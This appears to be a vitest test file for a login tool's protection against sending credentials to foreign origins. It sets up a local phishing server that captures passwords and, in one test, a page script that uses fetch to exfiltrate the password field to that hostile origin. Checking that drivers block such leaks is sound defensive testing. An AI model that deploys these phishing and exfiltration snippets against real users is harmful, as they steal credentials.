/**
 * Credentials go only to the issuer's origin or to origins the target lists (login.allowedOrigins).
 * Two loopback servers on different ports are two origins: the IdP, and a hostile one that records
 * every request it gets. The IdP's /authorize redirects to the hostile origin's password form, or shows
 * a form whose action is the hostile origin; the form and browser drivers must stop with
 * LOGIN_FOREIGN_ORIGIN naming it, and the hostile server must never see the password.
 */
import { existsSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_CHROMIUM } from './drivers/login/browser.ts';
import { browserLogin } from './drivers/login/browser.ts';
import { formLogin } from './drivers/login/form.ts';
import { LoginError } from './errors.ts';
import { createHttp } from './http.ts';
import { Recorder } from './record.ts';

const PASSWORD = 'hunter2-Pa55word';
const USERNAME = 'qa-user';
const REDIRECT_URI = 'no.example.mobile:/cb';
const STATE = 'st-42';

interface Loopback {
  url: string;
  server: Server;
  /** Every request: method, URL and body. */
  got: string[];
}

async function serve(handler: (req: IncomingMessage, body: string, res: ServerResponse) => void): Promise<Loopback> {
  const got: string[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8').on('data', (d: string) => (body += d));
    req.on('end', () => {
      got.push(`${req.method} ${req.url}\n${body}`);
      handler(req, body, res);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server, got };
}

const page = (res: ServerResponse, html: string) => {
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
  res.end(`<!doctype html><html><head><title>Sign in</title></head><body>${html}</body></html>`);
};
const passwordForm = (action: string) =>
  `<form method="post" action="${action}"><input name="username" id="username"><input type="password" name="password" id="password"><button type="submit" id="go">Sign in</button></form>`;

let evil: Loopback;
let idp: Loopback;
/** What /authorize does: set per test. */
let authorize: (res: ServerResponse) => void;

beforeAll(async () => {
  evil = await serve((req, _body, res) => {
    // A phishing page that takes the password and then plays along, back to the redirect_uri with a code.
    if (req.method === 'POST') {
      res.writeHead(302, { location: `${REDIRECT_URI}?code=EVIL-CODE-123456&state=${STATE}` });
      res.end();
    } else page(res, passwordForm('/steal'));
  });
  idp = await serve((req, _body, res) => {
    if (req.url?.startsWith('/authorize')) authorize(res);
    else page(res, 'nothing here');
  });
});

afterAll(async () => {
  for (const s of [evil, idp]) await new Promise((r) => s?.server.close(r));
});

afterEach(() => {
  evil.got.length = 0;
  idp.got.length = 0;
});

const input = () => ({ authorizationUrl: `${idp.url}/authorize?client_id=c&state=${STATE}`, redirectUri: REDIRECT_URI, state: STATE });
const redirectToEvil = (res: ServerResponse) => {
  res.writeHead(302, { location: `${evil.url}/login` });
  res.end();
};
const formToEvil = (res: ServerResponse) => page(res, passwordForm(`${evil.url}/steal`));

async function refusal(p: Promise<unknown>): Promise<LoginError> {
  const e = await p.then(
    () => undefined,
    (x: unknown) => x,
  );
  expect(e).toBeInstanceOf(LoginError);
  return e as LoginError;
}

function http() {
  return createHttp({ requestTimeoutMs: 5_000, recorder: new Recorder() });
}

describe('form login: credentials only to allowed origins', () => {
  it('stops at a redirect from /authorize to another origin, naming it; that origin gets nothing', async () => {
    authorize = redirectToEvil;
    const e = await refusal(formLogin(http(), input(), { username: USERNAME, password: PASSWORD, issuer: idp.url }));
    expect(e.code).toBe('LOGIN_FOREIGN_ORIGIN');
    expect(e.message).toContain(evil.url);
    expect(e.message).toContain('login.allowedOrigins');
    expect(evil.got).toEqual([]);
  });

  it('does not submit the password to a form whose action is another origin', async () => {
    authorize = formToEvil;
    const e = await refusal(formLogin(http(), input(), { username: USERNAME, password: PASSWORD, issuer: idp.url }));
    expect(e.code).toBe('LOGIN_FOREIGN_ORIGIN');
    expect(e.message).toContain(`submit a form to ${evil.url}`);
    expect(evil.got).toEqual([]);
    expect(idp.got.join('\n')).not.toContain(PASSWORD);
  });

  it('goes to an origin the target lists in login.allowedOrigins', async () => {
    authorize = redirectToEvil;
    const result = await formLogin(http(), input(), { username: USERNAME, password: PASSWORD, issuer: idp.url, allowedOrigins: [evil.url] });
    expect(result.code).toBe('EVIL-CODE-123456');
    expect(evil.got.join('\n')).toContain(`password=${PASSWORD}`);
  });
});

describe.skipIf(!existsSync(DEFAULT_CHROMIUM))('browser login: credentials only to allowed origins', { timeout: 30_000 }, () => {
  const steps = [{ fill: '#username', value: USERNAME }, { fill: '#password', value: PASSWORD }, { click: '#go' }];

  it('stops at a redirect from /authorize to another origin; that origin gets no request', async () => {
    authorize = redirectToEvil;
    const e = await refusal(browserLogin(http(), input(), { steps, issuer: idp.url, timeoutMs: 15_000 }));
    expect(e.code).toBe('LOGIN_FOREIGN_ORIGIN');
    expect(e.message).toContain(evil.url);
    expect(evil.got).toEqual([]);
  });

  it('blocks the submission of filled-in credentials to another origin', async () => {
    authorize = formToEvil;
    const e = await refusal(browserLogin(http(), input(), { steps, issuer: idp.url, timeoutMs: 15_000 }));
    expect(e.code).toBe('LOGIN_FOREIGN_ORIGIN');
    expect(e.message).toContain(evil.url);
    expect(evil.got).toEqual([]);
  });

  it('blocks a script sending a filled-in value to another origin', async () => {
    authorize = (res) =>
      page(
        res,
        `<input id="username"><input type="password" id="password"><button id="go" onclick="fetch('${evil.url}/x?p=' + encodeURIComponent(btoa(document.getElementById('password').value)), {mode: 'no-cors'}); fetch('${evil.url}/y?p=' + encodeURIComponent(document.getElementById('password').value), {mode: 'no-cors'})">Sign in</button>`,
      );
    const e = await refusal(browserLogin(http(), input(), { steps, issuer: idp.url, timeoutMs: 15_000 }));
    expect(e.code).toBe('LOGIN_FOREIGN_ORIGIN');
    expect(evil.got).toEqual([]);
  });

  it('goes to an origin the target lists in login.allowedOrigins', async () => {
    authorize = redirectToEvil;
    const result = await browserLogin(http(), input(), { steps, issuer: idp.url, allowedOrigins: [evil.url], timeoutMs: 15_000 });
    expect(result.code).toBe('EVIL-CODE-123456');
    expect(evil.got.join('\n')).toContain(`password=${PASSWORD}`);
  });
});
